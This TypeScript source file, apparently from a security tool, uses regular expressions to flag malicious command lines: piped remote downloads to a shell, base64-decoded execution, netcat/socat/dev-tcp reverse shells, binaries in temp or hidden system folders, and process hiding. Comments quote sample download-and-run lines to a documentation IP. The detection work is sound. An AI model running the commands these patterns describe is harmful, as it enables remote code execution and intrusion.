/** What a command does that start entries of distributions, managed servers and developers do not. */
export const signs = [
  'download-to-shell',
  'decoded-to-shell',
  'reverse-shell',
  'temporary-place',
  'hidden-in-system',
  'hides-processes',
] as const;
export type Sign = (typeof signs)[number];

const shell = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:ba|da|z|k|a)?sh\b`;
/** Where a program begins: at the start, after a separator or a quote, or as the script of an interpreter. */
const begin = String.raw`(?:^["']?|[;&|(]\s*["']?|\b(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|php|node|nohup|exec|setsid|nice|ionice|sudo|env|busybox|insmod)\s+(?:-\S+\s+)*["']?)`;
const temporary = '(?:/tmp|/var/tmp|/dev/shm|/dev/mqueue|/run/shm|/run/lock|/private/tmp|/private/var/tmp)/';
/** An interpreter that runs what comes to it, and not a program of its own: `python3 -m json.tool` only reads it. */
const fed = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:python|perl|ruby|php|node)[\d.]*\s*(?:-(?=[\s"')]|$)|[;&>"')]|$)`;
const netcat = String.raw`(?:/\S*/)?(?:n(?:c|cat|etcat)|telnet|openssl\s+s_client)\b`;

/**
 * Who is asked for what is run. Inside the own network that is how machines are set up; from the internet it is how malware comes back.
 * curl -fsS http://198.51.100.7/x | sh
 */
const piped = new RegExp(
  String.raw`\b(?:curl|wget|fetch)\b(?<from>[^|;&]{1,500})(?:\|\s*[^|;&\s][^|;&]{0,200}){0,3}\|\s*(?:${shell}|${fed})`,
);
/** bash -c "$(curl -fsSL https://x.example/i)", bash <(curl …), . <(curl …) */
const substituted = new RegExp(
  String.raw`(?:(?:${shell}|\b(?:python|perl|ruby)[\d.]*\s)[^;|]{0,100}(?:\$\(|<\(|${'`'})|\beval\b[^;|]{0,20}(?:\$\(|${'`'})|(?:^|[\s;&|])(?:source|\.)\s+<\()\s*(?:curl|wget)\b(?<from>[^)]{1,500})`,
);
/** exec(urllib.request.urlopen("http://198.51.100.7/x").read()) */
const fetched = /\bexec\s{0,5}\(.{0,200}\burlopen\s{0,5}\((?<from>[^)]{1,500})/;

const patterns: readonly (readonly [Sign, RegExp])[] = [
  [
    'decoded-to-shell',
    new RegExp(
      String.raw`\b(?:base64\s+(?:-\w*[dD]\w*|--decode)|xxd\s+(?:-\w+\s+){0,3}-\w*r\w*|openssl\s+(?:enc|base64)\b[^|;&]{0,200}\s-d)\b[^|;&]{0,200}\|\s*(?:${shell}|${fed})`,
    ),
  ],
  ['decoded-to-shell', /\beval\b[^;]{0,2000}\bbase64\s+(?:-\w*[dD]\w*|--decode)\b/],
  ['decoded-to-shell', /\bexec\s{0,5}\(.{0,200}\bb64decode\b/],
  ['decoded-to-shell', /\beval\b.{0,200}(?:\bdecode_base64\b|\bbase64_decode\b|\bBase64\.decode)/],
  ['reverse-shell', /\b(?:ba|da|z|k)?sh\s+-i\b.{0,200}\/dev\/(?:tcp|udp)\//],
  [
    'reverse-shell',
    new RegExp(String.raw`\bn(?:c|cat|etcat)\b[^;|]{0,200}\s(?:-e|-c|--exec|--sh-exec)\s*["']?${shell}`),
  ],
  ['reverse-shell', /\bsocat\b.{0,200}\b(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z|k)?sh\b/i],
  // sh -i | nc …, and nc … | sh
  ['reverse-shell', new RegExp(String.raw`\bsh\s+-i\b[^;]{0,100}\|\s*${netcat}`)],
  ['reverse-shell', new RegExp(String.raw`(?:^|[\s;&|(])${netcat}[^;&|]{0,200}\|\s*${shell}`)],
  // A shell, or each line that is read, on a connection that bash opened: sh <&5 >&5, while read l; do $l >&5; done
  ['reverse-shell', /\/dev\/(?:tcp|udp)\/.{0,300}\b(?:ba|da|z|k)?sh\b(?:\s+-i)?\s*\d?[<>]&\s*\d/],
  ['reverse-shell', /\/dev\/(?:tcp|udp)\/.{0,300}\bdo\s+(?:eval\s+)?["']?\$\w+["']?\s[^;]{0,60}>&\s*\d/],
  ['reverse-shell', /\/inet\/(?:tcp|udp)\/.{0,300}\bgetline\b/],
  // python -c, perl -e, ruby -e, php -r: a connection, and a shell on it.
  [
    'reverse-shell',
    /\bsocket\b.{0,400}\b(?:connect|bind)\s{0,3}\(.{0,400}(?:\bdup2\b|\bpty\.spawn\b|\/(?:ba|da|z)?sh\b)/i,
  ],
  ['reverse-shell', /\b(?:fsockopen|TCPSocket\.(?:new|open))\s{0,3}\(.{0,300}(?:\/|\b)(?:ba|da|z)?sh\b/],
  ['temporary-place', new RegExp(`${begin}${temporary}`)],
  // Tools of developers stand in hidden folders of their homes, never in those of the system.
  [
    'hidden-in-system',
    new RegExp(
      String.raw`${begin}/(?:(?:(?:usr/(?:local/)?)?(?:s?bin|lib(?:32|64)?|libexec)|etc|boot)/|(?:dev|run|(?:private/)?(?:var/)?tmp)/(?:[^\s"']{1,200}/)?)\.[^\s./"']`,
    ),
  ],
  // A program, or a folder with it, that hides where only programs of the system put something.
  [
    'hidden-in-system',
    new RegExp(
      String.raw`${begin}/(?:(?:usr(?:/share)?|var(?:/(?:lib|log|spool|cache))?)/\.[^\s./"']|(?:opt|srv)/\.[^\s/"']{2,100}(?:[\s"';&|]|$))`,
    ),
  ],
  ['hides-processes', /libprocesshider|\bLD_PRELOAD=["']?(?:\/tmp|\/var\/tmp|\/dev\/shm)\//],
];

/** The signs in a command line, each once. */
export function signsOf(command: string): Sign[] {
  const text = command.slice(0, longest);
  const found = patterns.flatMap(([sign, pattern]) => (pattern.test(text) ? [sign] : []));
  return [...new Set<Sign>([...(isFromOutside(text) ? ['download-to-shell' as const] : []), ...found])];
}

/** Command lines beyond this are data. */
const longest = 4000;

function isFromOutside(text: string): boolean {
  const [from] = [piped, substituted, fetched].flatMap(pattern => pattern.exec(text)?.groups?.from ?? []);
  if (from === undefined) return false;
  const host =
    /(?:[a-z]+:\/\/)?(?:[^\s/@"']{1,200}@)?(?<host>(?:\d{1,3}\.){3}\d{1,3}|[a-z\d-]+(?:\.[a-z\d-]+)+)(?=[:/\s"']|$)/i.exec(
      from,
    )?.groups?.host;
  return host !== undefined && !ownNetwork.test(host);
}

/**
 * Private addresses (RFC 1918, loopback, RFC 6598, and RFC 3927, where clouds tell a machine about itself) and endings that the internet does not
 * have (RFC 6762 appendix G, RFC 8375, ICANN's .internal).
 */
const ownNetwork =
  /^(?:127\.|10\.|192\.168\.|169\.254\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|172\.(?:1[6-9]|2\d|3[01])\.)|\.(?:local|lan|internal|intranet|corp|home|private|localdomain|home\.arpa)$/i;
